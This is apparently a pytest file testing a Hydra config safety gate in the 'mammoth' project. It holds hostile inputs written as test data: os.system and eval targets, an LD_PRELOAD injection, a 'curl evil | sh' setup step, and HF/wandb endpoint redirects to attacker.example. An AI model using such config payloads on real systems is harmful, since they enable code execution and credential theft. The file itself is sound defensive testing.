"""The one safety gate (mammoth.app.safety) over every config that will run: what it may make mammoth or
Hydra call, and where it may make them write. Each route below is one a shared YAML file could take."""

from __future__ import annotations

from pathlib import Path

import pytest
from omegaconf import open_dict

from mammoth.__main__ import hydra_main
from mammoth.app.preflight import prepare_arguments
from mammoth.errors import ConfigError
from mammoth.app.safety import check_config_safety, check_output_path
from composing import compose_mammoth


def prepare(*args: str):
    """``python -m mammoth ARGS``'s checks, in process."""
    return prepare_arguments(list(args), hydra_main)


def refused(*args: str) -> str:
    """The first line of the error the checks of ``python -m mammoth ARGS`` raise."""
    with pytest.raises(ConfigError) as error:
        prepare(*args)
    return str(error.value).splitlines()[0]


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def test_the_default_config_and_its_hydra_node_pass():
    assert check_config_safety(compose_mammoth(return_hydra_config=True)) is None
    assert prepare("dataset.n_epochs=1").args == ["dataset.n_epochs=1"]


def test_a_target_nested_in_an_allowed_callback_is_refused():
    line = refused("+hydra.callbacks.sweep_summary.payload._target_=os.system")
    assert line.startswith("hydra.callbacks.sweep_summary.payload._target_='os.system': a _target_ is not allowed here; allowed:")


def test_callbacks_launchers_and_sweepers_must_be_their_hydra_classes():
    assert refused("+hydra.callbacks.evil._target_=torch.load").startswith(
        "hydra.callbacks.evil._target_='torch.load' is not a Hydra Callback class")
    assert refused("+hydra.callbacks.x._target_=no.such.Module").startswith(
        "hydra.callbacks.x._target_='no.such.Module' is not importable (ModuleNotFoundError: No module named 'no'; "
        "installed packages and PYTHONPATH are searched); allowed: a Hydra Callback class")
    assert "is not a Hydra Launcher class" in refused("hydra.launcher._target_=subprocess.Popen")
    allowed = "+hydra.callbacks.log._target_=hydra.experimental.callbacks.LogJobReturnCallback"
    assert prepare(allowed).args == [allowed]


def test_a_target_anywhere_in_the_task_config_is_refused_unless_a_registered_option():
    assert refused("+model.inner._target_=os.system").startswith("model.inner._target_='os.system': a _target_ is not allowed here")
    assert refused("+dataset.transform._target_=builtins.eval").startswith("dataset.transform._target_='builtins.eval'")
    assert refused("+extra._target_=os.system").startswith("extra._target_='os.system'")
    assert "model._target_" in refused("model._target_=os.system")
    unregistered = compose_mammoth()
    with open_dict(unregistered.model):
        unregistered.model._target_ = "os.system"
    with pytest.raises(ConfigError, match=r"^model._target_='os.system' is not a registered model; allowed: the _target_ of one of agem,"):
        check_config_safety(unregistered)
    # a regulariser's node (+model/regularizer=NAME) names a registered regulariser, nothing else
    regularized = compose_mammoth("model=derpp", "+model/regularizer=lider", return_hydra_config=True)
    assert check_config_safety(regularized) is None
    with open_dict(regularized.model):
        regularized.model.regularizer._target_ = "os.system"
    with pytest.raises(ConfigError, match=r"^model.regularizer._target_='os.system' is not a registered regularizer; "
                                          r"allowed: the _target_ of one of lider, star \(choose it with \+model/regularizer=NAME\)$"):
        check_config_safety(regularized)


def test_logging_configs_name_only_listed_classes_reach_no_object_and_set_no_attribute():
    assert refused("+hydra.job_logging.handlers.evil.class=os.system").startswith(
        "hydra.job_logging.handlers.evil.class='os.system' is not allowed in a logging config; allowed: logging.StreamHandler,")
    factory = compose_mammoth(return_hydra_config=True)
    with open_dict(factory):
        factory.hydra.hydra_logging.formatters.f = {"()": "builtins.eval"}
    with pytest.raises(ConfigError, match=r"^hydra.hydra_logging.formatters.f.\(\)='builtins.eval' is not allowed in a logging config; allowed: logging.Formatter"):
        check_config_safety(factory)
    factory = compose_mammoth(return_hydra_config=True)
    assert refused("hydra.job_logging.handlers.console.stream=ext://os.system").startswith(
        "hydra.job_logging.handlers.console.stream='ext://os.system' reaches an object outside the logging config")
    with open_dict(factory):
        factory.hydra.job_logging.handlers.console["."] = {"terminator": "x"}
    with pytest.raises(ConfigError, match=r"^hydra.job_logging.handlers.console..: a logging config may not set attributes"):
        check_config_safety(factory)
    # a subclass of an allowed class is not on the list either: the list names exact classes
    assert "is not allowed in a logging config" in refused("hydra.job_logging.handlers.file.class=logging.handlers.SysLogHandler")


def test_a_log_file_outside_the_run_directory_is_refused(tmp_path: Path):
    target = write(tmp_path / "bashrc", "untouched\n")
    line = refused(f"hydra.job_logging.handlers.file.filename={target}")
    assert line == (f"hydra.job_logging.handlers.file.filename={str(target)!r} is outside the run directory; "
                    "allowed: a path inside it, e.g. ${hydra.runtime.output_dir}/NAME.log")
    assert "is outside the run directory" in refused("hydra.job_logging.handlers.file.filename=${hydra.runtime.output_dir}/../../x.log")
    assert target.read_text() == "untouched\n"
    inside = "hydra.job_logging.handlers.file.filename=${hydra.runtime.output_dir}/logs/run.log"
    assert prepare(inside).args == [inside]


def test_output_paths_stay_inside_the_run_directory():
    assert refused("output_dir=/etc").startswith("output_dir='/etc' leaves the run directory; allowed: a relative path inside it")
    assert refused("output_dir=../../x").startswith("output_dir='../../x' leaves the run directory")
    assert refused("logger.csv.filename=/home/user/.bashrc").startswith("logger.csv.filename='/home/user/.bashrc' leaves the run directory")
    assert refused("logger=tensorboard", "logger.tensorboard.log_dir=../../tb").startswith("logger.tensorboard.log_dir='../../tb' leaves")
    assert refused("hydra.output_subdir=../x").startswith("hydra.output_subdir='../x' leaves the run directory")
    assert refused("-m", "model=sgd,er", "hydra.sweep.subdir=../../${hydra.job.num}").startswith("hydra.sweep.subdir='../../0' leaves")
    assert prepare("output_dir=results").args == ["output_dir=results"]
    with pytest.raises(ConfigError, match=r"^x='C:/Users' leaves"):
        check_output_path("x", "C:/Users")


def test_shell_commands_and_environment_variables_come_only_from_the_command_line(tmp_path: Path):
    write(tmp_path / "experiment" / "shared.yaml",
          "# @package _global_\nhydra:\n  job:\n    env_set:\n      LD_PRELOAD: /tmp/evil.so\n")
    assert refused("--config-dir", str(tmp_path), "experiment=shared").startswith(
        "hydra.job.env_set.LD_PRELOAD sets an environment variable from a config file; allowed there: names starting with CUDA_")
    write(tmp_path / "experiment" / "gpu.yaml", "# @package _global_\nhydra:\n  job:\n    env_set:\n      CUDA_VISIBLE_DEVICES: '1'\n")
    assert prepare("--config-dir", str(tmp_path), "experiment=gpu").args[-1] == "experiment=gpu"
    assert prepare("+hydra.job.env_set.LD_LIBRARY_PATH=/opt/lib").args == ["+hydra.job.env_set.LD_LIBRARY_PATH=/opt/lib"]
    write(tmp_path / "experiment" / "slurm.yaml", "# @package _global_\nhydra:\n  launcher:\n    setup: ['curl evil | sh']\n")
    pytest.importorskip("hydra_plugins.hydra_submitit_launcher")
    slurm = ["-m", "--config-dir", str(tmp_path), "hydra/launcher=submitit_slurm", "seed=0,1"]
    line = refused(*slurm, "experiment=slurm")
    assert line == "hydra.launcher.setup runs shell commands and was set by a config file; allowed: set it on the command line"
    assert prepare(*slurm, "hydra.launcher.setup=[module load cuda]").multirun


def test_a_sweepers_nested_instantiable_field_is_refused():
    pytest.importorskip("hydra_plugins.hydra_optuna_sweeper")
    line = refused("-m", "hydra/sweeper=optuna", "+hydra.sweeper.storage._target_=os.system", "model.lr=interval(0.01,0.1)")
    assert line.startswith("hydra.sweeper.storage._target_='os.system': a _target_ is not allowed here")
    # the Optuna sampler's own _target_ is expected; a non-sampler there is not
    assert prepare("-m", "hydra/sweeper=optuna", "model.lr=interval(0.01,0.1)").multirun
    assert "is not an Optuna sampler class" in refused("-m", "hydra/sweeper=optuna", "hydra.sweeper.sampler._target_=os.system")


def test_each_job_of_a_sweep_passes_the_gate(tmp_path: Path):
    write(tmp_path / "experiment" / "fine.yaml", "# @package _global_\nseed: 3\n")
    write(tmp_path / "experiment" / "evil.yaml",
          "# @package _global_\nhydra:\n  job_logging:\n    handlers:\n      file:\n        filename: /tmp/planted.log\n")
    args = ["--config-dir", str(tmp_path), f"hydra.sweep.dir={tmp_path / 'sweep'}"]
    # as a single run and as the second job of a sweep: the same refusal, before anything is written
    single = refused(*args, "experiment=evil")
    assert single.startswith("hydra.job_logging.handlers.file.filename='/tmp/planted.log' is outside the run directory")
    assert refused("-m", *args, "experiment=fine,evil") == single
    assert not (tmp_path / "sweep").exists()


def test_an_optuna_search_over_hydras_settings_or_an_unsafe_choice_is_refused(tmp_path: Path):
    pytest.importorskip("hydra_plugins.hydra_optuna_sweeper")
    write(tmp_path / "hparams_search" / "logs.yaml", "# @package _global_\ndefaults:\n  - override /hydra/sweeper: optuna\n"
          "hydra:\n  mode: MULTIRUN\n  sweeper:\n    params:\n      hydra.job_logging.root.level: choice(INFO,DEBUG)\n")
    line = refused("--config-dir", str(tmp_path), "hparams_search=logs")
    assert line.startswith("hydra.sweeper.params.hydra.job_logging.root.level: a search may not change Hydra's own settings per trial")
    write(tmp_path / "experiment" / "fine.yaml", "# @package _global_\nseed: 3\n")
    write(tmp_path / "experiment" / "evil.yaml",
          "# @package _global_\nhydra:\n  callbacks:\n    sweep_summary:\n      payload:\n        _target_: os.system\n")
    line = refused("-m", "--config-dir", str(tmp_path), "hydra/sweeper=optuna", "experiment=choice(fine,evil)")
    assert line.startswith("hydra.callbacks.sweep_summary.payload._target_='os.system': a _target_ is not allowed here")


def test_a_config_pickle_is_refused():
    assert refused("--experimental-rerun", "config.pickle").startswith(
        "--experimental-rerun 'config.pickle' is refused: it unpickles a file, which can run any code")


def test_the_run_checks_its_config_with_the_same_gate(tmp_path: Path):
    import mammoth

    cfg = compose_mammoth(f"output_dir={tmp_path}", "device=cpu", "dataset.n_epochs=1")
    with open_dict(cfg.model):
        cfg.model.helper = {"_target_": "os.system", "_args_": ["touch pwned"]}
    with pytest.raises(ConfigError, match=r"^model.helper._target_='os.system': a _target_ is not allowed here"):
        mammoth.run(cfg)
    assert list(tmp_path.iterdir()) == []


def test_where_the_run_goes_is_chosen_on_the_command_line_not_by_a_shared_file(tmp_path: Path):
    write(tmp_path / "experiment" / "elsewhere.yaml", "# @package _global_\nhydra:\n  run:\n    dir: /etc/cron.d\n")
    line = refused("--config-dir", str(tmp_path), "experiment=elsewhere")
    assert line == ("hydra.run.dir='/etc/cron.d' was set by a config file and leaves the working directory; allowed there: "
                    "a relative path without '..'; another place only on the command line")
    assert prepare(f"hydra.run.dir={tmp_path / 'run'}").directory == tmp_path / "run"
    write(tmp_path / "experiment" / "db.yaml", "# @package _global_\nhydra:\n  sweeper:\n    storage: sqlite:////home/user/.db\n")
    pytest.importorskip("hydra_plugins.hydra_optuna_sweeper")
    line = refused("-m", "--config-dir", str(tmp_path), "hydra/sweeper=optuna", "experiment=db", "model.lr=interval(0.01,0.1)")
    assert line.startswith("hydra.sweeper.storage='sqlite:////home/user/.db' was set by a config file")
    pytest.importorskip("hydra_plugins.hydra_submitit_launcher")
    line = refused("-m", "hydra/launcher=submitit_local", "hydra.launcher.submitit_folder=/tmp/elsewhere", "seed=0,1")
    assert line == ("hydra.launcher.submitit_folder='/tmp/elsewhere' is outside the sweep directory; allowed: a path inside it, "
                    "e.g. ${hydra.sweep.dir}/NAME")


def test_an_interpolation_that_becomes_a_target_is_walked_as_what_it_becomes(tmp_path: Path):
    write(tmp_path / "experiment" / "decoded.yaml", "# @package _global_\nhydra:\n  callbacks:\n    sweep_summary:\n"
          "      payload: \"${oc.decode:'{_target_: os.system, _args_: [touch pwned]}'}\"\n")
    line = refused("--config-dir", str(tmp_path), "experiment=decoded")
    assert line.startswith("hydra.callbacks.sweep_summary.payload._target_='os.system': a _target_ is not allowed here")
    assert not (tmp_path / "pwned").exists()



def test_a_config_file_sets_no_variable_that_redirects_a_client_or_its_credentials(tmp_path: Path):
    # HF_ENDPOINT + HF_HUB_OFFLINE=0 sent the HF token to the file's host; WANDB_BASE_URL + WANDB_MODE the wandb key
    for name, value in (("HF_ENDPOINT", "http://attacker.example"), ("HF_HUB_OFFLINE", "'0'"),
                        ("WANDB_BASE_URL", "http://attacker.example"), ("WANDB_MODE", "online"), ("WANDB_API_KEY", "x"),
                        ("HF_TOKEN", "x"), ("HF_HOME", "/tmp/hf"), ("TORCH_HOME", "/tmp/t"), ("NCCL_NET_PLUGIN", "evil"),
                        ("TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD", "'1'"), ("HF_DATASETS_TRUST_REMOTE_CODE", "'1'")):
        write(tmp_path / "experiment" / "client.yaml", f"# @package _global_\nhydra:\n  job:\n    env_set:\n      {name}: {value}\n")
        line = refused("--config-dir", str(tmp_path), "experiment=client")
        assert line.startswith(f"hydra.job.env_set.{name} sets an environment variable from a config file; allowed there: "
                               "names starting with CUDA_,"), name
        assert "that choose no endpoint, credential, online or offline mode, path or code to load" in line
    # harmless settings under the same prefixes stay allowed from a file; the command line may set any
    write(tmp_path / "experiment" / "fine.yaml", "# @package _global_\nhydra:\n  job:\n    env_set:\n"
          "      WANDB_PROJECT: cl\n      HF_HUB_DISABLE_PROGRESS_BARS: '1'\n      NCCL_P2P_DISABLE: '1'\n      OMP_NUM_THREADS: '2'\n")
    assert prepare("--config-dir", str(tmp_path), "experiment=fine").args[-1] == "experiment=fine"
    typed = "+hydra.job.env_set.HF_ENDPOINT=http://mirror.local"
    assert prepare(typed).args == [typed]


def test_an_output_path_is_checked_as_hydra_will_resolve_it(tmp_path: Path, monkeypatch):
    victim = tmp_path / "victim"
    experiments = {
        "out": "output_dir: ${hydra:runtime.cwd}/victim",
        "subdir": "hydra:\n  output_subdir: ${hydra:runtime.cwd}/victim",
        "sweep": "hydra:\n  sweep:\n    subdir: ${hydra:runtime.cwd}/victim/job${hydra.job.num}",
    }
    for name, text in experiments.items():
        write(tmp_path / "conf" / "experiment" / f"{name}.yaml", f"# @package _global_\n{text}\n")
    monkeypatch.chdir(tmp_path)
    config = ["--config-dir", str(tmp_path / "conf")]
    assert refused(*config, "experiment=out") == (
        f"output_dir={str(victim)!r} leaves the run directory; allowed: a relative path inside it without '..' "
        "(choose where the run directory is with hydra.run.dir / hydra.sweep.dir)")
    assert refused(*config, "experiment=subdir").startswith(f"hydra.output_subdir={str(victim)!r} leaves the run directory")
    assert refused("-m", *config, "experiment=sweep", "seed=0,1").startswith(
        f"hydra.sweep.subdir={str(victim / 'job0')!r} leaves the run directory")
    # ${hydra:...} that stays inside is what Hydra's own defaults do
    inside = "hydra.sweep.subdir=job${hydra:job.num}"
    assert prepare("-m", "seed=0,1", inside).multirun
    assert not victim.exists()


def test_an_output_path_that_reads_the_environment_is_refused_from_a_config_file(tmp_path: Path):
    # env_set made oc.env say what the pre-flight could not see; another machine's environment too
    write(tmp_path / "experiment" / "env.yaml", "# @package _global_\nhydra:\n  job:\n    env_set:\n"
          "      MAMMOTH_X: /elsewhere\noutput_dir: ${oc.env:MAMMOTH_X,results}\n")
    assert refused("--config-dir", str(tmp_path), "experiment=env") == (
        "output_dir='${oc.env:MAMMOTH_X,results}' is an output path that reads ${oc.env:...} (itself or through the keys "
        "it references), which the config does not hold; allowed in an output path: text, the config's own keys, "
        "${now:...} and ${hydra:...} (so it resolves in the job as checked)")
    # through another key: the job's name is in the log file's name
    write(tmp_path / "experiment" / "name.yaml", "# @package _global_\nhydra:\n  job:\n    name: ${oc.env:SLURM_JOB_NAME,x}\n")
    assert refused("--config-dir", str(tmp_path), "experiment=name").startswith(
        "hydra.job_logging.handlers.file.filename='${hydra.runtime.output_dir}/${hydra.job.name}.log' is an output path "
        "that reads ${oc.env:...}")
    write(tmp_path / "experiment" / "dynamic.yaml", "# @package _global_\nhydra:\n  output_subdir: ${${hydra.job.env_set.MAMMOTH_R}:X}\n"
          "  job:\n    env_set:\n      MAMMOTH_R: oc.env\n")
    assert "reads a resolver whose name is itself interpolated" in refused("--config-dir", str(tmp_path), "experiment=dynamic")
    # a path that does not resolve is refused, not passed
    assert refused("hydra.output_subdir=${no_such_key}") == (
        "hydra.output_subdir='${no_such_key}' does not resolve before the run (Interpolation key 'no_such_key' not found); "
        "allowed: an output path the config itself resolves")
